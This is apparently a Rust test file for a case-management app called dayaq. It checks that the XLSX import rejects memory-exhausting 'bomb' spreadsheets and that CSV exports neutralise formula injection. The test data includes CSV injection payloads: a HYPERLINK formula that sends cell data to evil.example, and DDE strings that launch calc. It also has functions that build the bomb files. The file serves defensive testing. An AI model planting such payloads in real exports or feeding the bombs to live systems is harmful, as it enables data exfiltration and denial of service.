//! Issue 14, items 2, 12 and 13c: hostile spreadsheets (XLSX bombs), the CSV/XLSX formula
//! guard, and signed referral packages. On the configured engine (see `testkit`).

use crate::testkit::{TestDb, ctx, org_and_user, spawn_app, test_db};
use dayaq_storage::StoreError;
use dayaq_storage::htcds::Format;
use reqwest::StatusCode;
use serde_json::Value;
use std::process::{Command, Output};

// ---------- item 2: XLSX bombs ----------

/// The 4.8 KB file of the issue: a header cell at A1 and one cell at XFD1048576. A reader that
/// lays out rows × columns allocates 17 billion cells for it.
pub fn corner_bomb() -> Vec<u8> {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let sheet = wb.add_worksheet();
    sheet.write_string(0, 0, "prs_FirstName").unwrap();
    sheet.write_string(1_048_575, 16_383, "x").unwrap();
    wb.save_to_buffer().unwrap()
}

/// Few cells, but each in the last column of its own row: a grid of 600 × 16,384.
fn wide_bomb() -> Vec<u8> {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let sheet = wb.add_worksheet();
    sheet.write_string(0, 0, "prs_FirstName").unwrap();
    for r in 1..=600 {
        sheet.write_string(r, 16_383, "x").unwrap();
    }
    wb.save_to_buffer().unwrap()
}

fn client() -> reqwest::Client {
    reqwest::Client::new()
}

async fn token(db: &TestDb, slug: &str, role: &str) -> String {
    let (_, user) = org_and_user(db, slug, role).await;
    db.store
        .create_token(&user, "test", 1, time::OffsetDateTime::now_utc())
        .await
        .unwrap()
}

#[tokio::test]
async fn xlsx_bombs_get_422_and_the_server_keeps_answering() {
    let app = spawn_app().await;
    let base = &app.base_url;
    let t = token(&app.db, "org-a", "caseworker").await;
    let c = client();

    let bomb = corner_bomb();
    assert!(bomb.len() < 8 * 1024, "the bomb is small: {}", bomb.len());
    let r = c
        .post(format!("{base}/api/v1/import/htcds"))
        .bearer_auth(&t)
        .header("content-type", Format::XLSX_MEDIA_TYPE)
        .body(bomb)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: Value = r.json().await.unwrap();
    // Read sparsely: the stray cell is named by its position, not allocated.
    assert_eq!(body["error"]["errors"][0]["code"], "extra_cells", "{body}");
    assert_eq!(body["error"]["errors"][0]["row"], 1_048_576, "{body}");
    assert_eq!(body["error"]["errors"][0]["column"], "XFD", "{body}");

    let r = c
        .post(format!("{base}/api/v1/import/htcds"))
        .bearer_auth(&t)
        .header("content-type", Format::XLSX_MEDIA_TYPE)
        .body(wide_bomb())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["error"]["field"], "file", "{body}");
    assert_eq!(
        body["error"]["errors"][0]["code"], "file_too_large",
        "{body}"
    );
    assert!(
        body["error"]["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("rows × columns"),
        "{body}"
    );

    // The server is still there and still serves a signed-in request.
    let r = c.get(format!("{base}/healthz")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let r = c
        .get(format!("{base}/api/v1/export/htcds?format=csv"))
        .bearer_auth(&t)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    app.db.cleanup().await;
}

#[tokio::test]
async fn the_questionnaire_import_uses_the_bounded_reader() {
    let db = test_db().await;
    let (_, user) = org_and_user(&db, "org-q", "caseworker").await;
    let actor = user.actor();
    for bomb in [corner_bomb(), wide_bomb()] {
        let e = db
            .store
            .import_questionnaire(&ctx(&actor), &bomb, true)
            .await
            .unwrap_err();
        let StoreError::Invalid(v) = e else {
            panic!("expected a validation error, got {e:?}");
        };
        assert!(!v.errors.is_empty());
    }
    let e = db
        .store
        .import_questionnaire(&ctx(&actor), &wide_bomb(), true)
        .await
        .unwrap_err();
    let StoreError::Invalid(v) = e else {
        panic!("expected a validation error");
    };
    assert_eq!(v.errors[0].field, "file");
    assert_eq!(v.errors[0].code, "file_too_large");
    db.cleanup().await;
}

fn dayaq(args: &[&str], db: &TestDb) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_dayaq"));
    c.args(args)
        .arg("--data-dir")
        .arg(&db.opts.data_dir)
        .env_remove("DAYAQ_DATABASE_URL")
        .env_remove("DAYAQ_MASTER_KEY_FILE")
        .env("RUST_LOG", "warn");
    if let Some(url) = &db.opts.database_url {
        c.arg("--database-url").arg(url);
    }
    c.output().expect("run the dayaq binary")
}

#[tokio::test]
async fn cli_import_of_an_xlsx_bomb_fails_cleanly() {
    let db = test_db().await;
    let (_, user) = org_and_user(&db, "org-cli", "caseworker").await;
    db.store.close().await;
    let dir = tempfile::tempdir().unwrap();
    for (name, bytes) in [("corner.xlsx", corner_bomb()), ("wide.xlsx", wide_bomb())] {
        let file = dir.path().join(name);
        std::fs::write(&file, bytes).unwrap();
        let out = dayaq(
            &[
                "import",
                "htcds",
                file.to_str().unwrap(),
                "--as",
                &user.username,
            ],
            &db,
        );
        // Exit code 1 (a refusal), not a signal (abort) nor a panic (101).
        assert_eq!(
            out.status.code(),
            Some(1),
            "{name}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("error: "), "{name}: {err}");
        if name == "wide.xlsx" {
            assert!(err.contains("file: the sheet spans"), "{err}");
        }
    }
    db.cleanup().await;
}

// ---------- item 13c: the formula guard of every CSV writer ----------

/// Cells as a spreadsheet in an az/ru locale sees them: the line cut at `;` (it ignores the
/// file's quoting of comma-separated fields) and at line breaks.
fn locale_cells(csv: &str) -> Vec<String> {
    csv.split([';', '\n', '\r']).map(str::to_string).collect()
}

fn runs_as_formula(cell: &str) -> bool {
    let c = cell.trim_start_matches(|c: char| c.is_whitespace() && c != '\t');
    let c = c.strip_prefix('"').unwrap_or(c);
    match c.chars().next() {
        Some('=' | '@' | '\t' | '\u{FF1D}' | '\u{FF20}') => true,
        Some('+' | '-' | '\u{FF0B}' | '\u{FF0D}') => !c
            .chars()
            .all(|c| c.is_ascii_digit() || c.is_whitespace() || " +-()./\",".contains(c)),
        _ => false,
    }
}

#[tokio::test]
async fn csv_export_guards_every_cell_a_spreadsheet_would_run() {
    let db = test_db().await;
    let (_, user) = org_and_user(&db, "org-csv", "caseworker").await;
    let actor = user.actor();
    let comments = [
        "x;=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
        "  =1+1",
        "\u{FF1D}cmd|' /C calc'!A0",
        "first line\n@SUM(A1)",
        "ok; -2+3+cmd|' /C calc'!A0",
    ];
    for comment in comments {
        let input: dayaq_domain::case::CaseInput = serde_json::from_value(serde_json::json!({
            "prs_FirstName": "Leyla",
            "prs_SecondName": "Aliyeva",
            "prs_Gender": "Feminine",
            "prs_MobilePhone": "+994 50 123 45 67",
            "cco_CaseComment": comment,
        }))
        .unwrap();
        let valid = input.validate(crate::testkit::now().date()).unwrap();
        db.store.create_case(&ctx(&actor), &valid).await.unwrap();
    }
    let mut sink = dayaq_storage::htcds::CsvSink::new(Vec::new()).unwrap();
    let n = db
        .store
        .export_cases(&ctx(&actor), &mut sink)
        .await
        .unwrap();
    assert_eq!(n, comments.len());
    let csv = String::from_utf8(sink.finish().unwrap()).unwrap();
    for cell in locale_cells(&csv) {
        assert!(!runs_as_formula(&cell), "a spreadsheet would run {cell:?}");
    }
    // Every field, read back as CSV, is safe at its start too.
    let mut r = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    for rec in r.records() {
        for f in rec.unwrap().iter() {
            assert!(!dayaq_storage::csv_guard::would_evaluate(f), "{f:?}");
        }
    }
    // The phone stays readable.
    assert!(csv.contains(",+994 50 123 45 67,"), "{csv}");
    // And the export imports back exactly.
    let parsed =
        dayaq_storage::htcds::parse(csv.as_bytes(), Format::Csv, crate::testkit::now().date())
            .unwrap();
    let mut back: Vec<String> = parsed
        .cases
        .iter()
        .map(|c| c.identity.notes.clone().unwrap())
        .collect();
    back.sort();
    let mut want: Vec<String> = comments.iter().map(|s| s.to_string()).collect();
    want.sort();
    assert_eq!(back, want);
    db.cleanup().await;
}
